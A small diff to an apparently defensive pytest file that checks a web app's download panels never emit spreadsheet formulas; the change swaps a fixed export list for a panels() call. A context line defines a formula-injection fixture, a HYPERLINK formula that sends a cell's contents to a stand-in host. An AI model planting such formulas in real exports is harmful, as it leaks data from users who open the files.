@@ -12,7 +12,7 @@ from callbacks.application import create_app
 from data.access import Viewer
 from data.settings import Settings
 from data.store import StoreFolder
-from layouts.views.exports import EXPORTS
+from layouts.views.panels import panels
 from tests.fixtures_store import build, make_batch
 
 EVIL = '=HYPERLINK("http://example.org?x="&A1,"more")'
@@ -24,7 +24,7 @@ def planted_folder(tmp_path_factory: pytest.TempPathFactory) -> StoreFolder:
     return build(tmp_path_factory.mktemp("evil"), batch)
 
 
-@pytest.mark.parametrize("panel", sorted(EXPORTS))
+@pytest.mark.parametrize("panel", sorted(panels()))
 def test_no_download_holds_a_formula(planted_folder: StoreFolder, panel: str) -> None:
     server = create_app(planted_folder, Viewer("analyst"), Settings()).server
     with server.test_client() as client:
